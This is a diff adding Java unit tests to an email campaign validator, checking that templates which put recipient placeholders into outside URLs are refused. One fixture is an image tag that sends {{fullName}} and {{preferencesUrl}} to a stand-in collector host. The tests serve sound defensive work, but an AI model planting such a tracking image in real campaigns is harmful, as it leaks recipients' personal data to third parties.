@@ -71,6 +71,40 @@ class CampaignRulesTest {
         fields(() -> CampaignRules.content("n", null, null, "s", TEXT, "{{> header}}")));
   }
 
+  @Test
+  void theCollectorImageIsRefusedNamingTheFieldAndThePlaceholder() {
+    String collector =
+        "<img src=\"https://collector.example/p?n={{fullName}}&u={{preferencesUrl}}\">" + HTML;
+    List<FieldError> errors =
+        errors(() -> CampaignRules.content("n", null, null, "Tin", TEXT, collector));
+    assertEquals(List.of("htmlBody"), errors.stream().map(FieldError::field).toList());
+    assertTrue(errors.get(0).message().startsWith("{{fullName}} and {{preferencesUrl}} stand"));
+    assertEquals(
+        List.of("subject", "textBody"),
+        fields(
+            () ->
+                CampaignRules.content(
+                    "n",
+                    null,
+                    null,
+                    "Tin https://x.example/?n={{fullName}}",
+                    "https://x.example/?n={{fullName}} " + TEXT,
+                    HTML)));
+  }
+
+  @Test
+  void aSavedCampaignThatBreaksTheRulesIsAConflictToSend() {
+    CampaignRules.checkSendable(CampaignRules.content("n", null, null, "Tin", TEXT, HTML));
+    CampaignContent saved =
+        new CampaignContent(
+            "n", Purpose.NEWSLETTER, true, "Tin", TEXT, "<img src=\"{{fullName}}\">" + HTML);
+    ProblemException problem =
+        assertThrows(ProblemException.class, () -> CampaignRules.checkSendable(saved));
+    assertEquals(409, problem.status());
+    assertEquals("htmlBody", problem.errors().get(0).field());
+    assertTrue(problem.errors().get(0).message().contains("{{fullName}}"));
+  }
+
   private static List<FieldError> errors(Runnable call) {
     ProblemException problem = assertThrows(ProblemException.class, call::run);
     assertEquals(400, problem.status());
